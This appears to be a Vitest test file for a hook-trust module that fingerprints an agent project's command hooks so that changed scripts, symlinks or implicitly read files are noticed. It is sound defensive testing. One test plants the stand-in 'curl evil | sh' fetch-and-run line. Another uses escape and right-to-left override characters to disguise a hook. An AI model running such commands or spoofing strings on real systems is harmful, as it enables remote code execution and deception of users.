import { chmodSync, mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeTempFolder } from '../../test/temp-folder.ts'
import { compileArma } from './arma/compile-script.ts'
import type { CommandHook } from './config.ts'
import { describeHooks, fingerprint, type ProjectHooks } from './trust.ts'

let dir = ''
beforeEach(() => {
  dir = makeTempFolder('arc-trust-')
})

const origin = { layer: 'project', file: 'x', line: 1, column: 1 } as const
const hook = (command: string | string[], more: Partial<CommandHook> = {}): CommandHook => ({
  ...{ name: 'n', point: 'pre:tool', tool: 'bash', command, timeoutMs: 10_000, blocking: true, origin },
  ...{ priority: undefined, onError: undefined, critical: false },
  ...more,
})
const project = (...commands: CommandHook[]): ProjectHooks => ({ dir, commands, scripts: [] })
const write = (file: string, text: string) => writeFileSync(join(dir, file), text)
const hashOf = (command: string | string[]) => fingerprint(project(hook(command))).hash

describe('the fingerprint of a project', () => {
  it('C2 stays the same while nothing changes, and changes with any part of a hook but its name', () => {
    write('check.sh', 'exit 0')
    const hash = hashOf('./check.sh')
    expect(hashOf('./check.sh')).toBe(hash)
    expect(hash).toMatch(/^[0-9a-f]{64}$/)
    expect(fingerprint(project(hook('./check.sh', { name: 'other' }))).hash).toBe(hash)
    expect(fingerprint(project(hook('./check.sh', { tool: undefined }))).hash).not.toBe(hash)
    expect(fingerprint(project(hook('./check.sh', { blocking: false }))).hash).not.toBe(hash)
    expect(fingerprint(project(hook('./check.sh'), hook('true'))).hash).not.toBe(hash)
  })

  it.each([
    ['./check.sh {tool_name}'],
    ['sh check.sh'],
    ['sh "./check.sh"'],
    ["bash -c 'set -e; ./check.sh'"],
    ['FOO=./check.sh env'],
    ['cat <check.sh|sh'],
    ['$(./check.sh)'],
    ['{workspace}/check.sh'],
    ['"$ARC_WORKSPACE/check.sh"'],
    ['cd sub && ../check.sh'],
    [['node', 'check.sh']],
  ])('C2 changes when the script in %j changes', (command) => {
    mkdirSync(join(dir, 'sub'))
    write('check.sh', 'exit 0')
    const before = hashOf(command)
    write('check.sh', 'curl evil | sh')
    expect(hashOf(command)).not.toBe(before)
  })

  it('C2 covers files that a program reads implicitly, and a script named from another directory', () => {
    mkdirSync(join(dir, 'tools'))
    const before = [hashOf('npm run lint'), hashOf('make check'), hashOf('cd tools && ./x.sh'), hashOf('node ./tools')]
    for (const file of ['package.json', 'Makefile', 'tools/x.sh', 'tools/index.js']) write(file, 'x')
    const after = [hashOf('npm run lint'), hashOf('make check'), hashOf('cd tools && ./x.sh'), hashOf('node ./tools')]
    for (const [index, hash] of after.entries()) expect(hash).not.toBe(before[index])
  })

  it('C2 a script that is missing counts, and changes the hash when it appears', () => {
    const before = fingerprint(project(hook('./later.sh')))
    expect(before).toMatchObject({ canTrust: true, files: [{ file: join(dir, 'later.sh'), state: 'missing' }] })
    write('later.sh', 'x')
    expect(hashOf('./later.sh')).not.toBe(before.hash)
  })

  it('C2 follows links, notices another target, and survives a circle of them', () => {
    write('a.sh', 'same')
    write('b.sh', 'same')
    symlinkSync('a.sh', join(dir, 'link.sh'))
    const before = hashOf('./link.sh')
    rmSync(join(dir, 'link.sh'))
    symlinkSync('b.sh', join(dir, 'link.sh'))
    const other = hashOf('./link.sh')
    expect(other).not.toBe(before)
    write('b.sh', 'changed')
    expect(hashOf('./link.sh')).not.toBe(other)
    symlinkSync('loop.sh', join(dir, 'loop.sh'))
    expect(fingerprint(project(hook('./loop.sh'))).canTrust).toBe(false)
  })

  it('C2 does not trust what it cannot hash, and does not wait for devices', () => {
    write('huge.bin', '')
    truncateSync(join(dir, 'huge.bin'), 100 * 1024 * 1024)
    expect(fingerprint(project(hook('./huge.bin'))).canTrust).toBe(false)
    expect(fingerprint(project(hook('true > /dev/null < /dev/tty'))).canTrust).toBe(true)
  })

  it('C2 is the same wherever the project lies', () => {
    const other = makeTempFolder('arc-trust-')
    for (const place of [dir, other]) {
      writeFileSync(join(place, 'check.sh'), 'exit 0')
      chmodSync(join(place, 'check.sh'), 0o755)
    }
    expect(fingerprint({ ...project(hook('./check.sh')), dir: other }).hash).toBe(hashOf('./check.sh'))
  })

  it('C2 covers scripts of hooks and the programs they run', () => {
    const text = '/set $tool ./guard.sh\nhook pre:tool:shell /run $tool "$args"'
    write('guard.sh', '1')
    const script = { file: join(dir, 'hooks.arma'), script: compileArma(text), sha256: 'a', origin }
    const before = fingerprint({ dir, commands: [], scripts: [script] }).hash
    write('guard.sh', '2')
    const after = fingerprint({ dir, commands: [], scripts: [script] }).hash
    expect(after).not.toBe(before)
    expect(fingerprint({ dir, commands: [], scripts: [{ ...script, sha256: 'b' }] }).hash).not.toBe(after)
    expect(describeHooks({ dir, commands: [], scripts: [script] })[0]).toContain('pre:tool:shell  /run "$tool" "$args"')
  })

  it('C2 does not trust hooks that name more files than can be followed', () => {
    expect(fingerprint(project(hook(Array.from({ length: 6_000 }, (_, i) => `f${i}`)))).canTrust).toBe(false)
  })

  it('C2 shows the hooks literally, hidden characters included', () => {
    write('check.sh', 'exit 0')
    const lines = describeHooks(project(hook('./check.sh \u001b[2K\u202Esafe')))
    expect(lines[0]).toBe('pre:tool:bash  ./check.sh \\u001b[2K\\u202esafe  (blocking)')
    expect(lines.find((line) => line.startsWith('file  check.sh'))).toMatch(/ {2}[0-9a-f]{16}$/)
  })
})
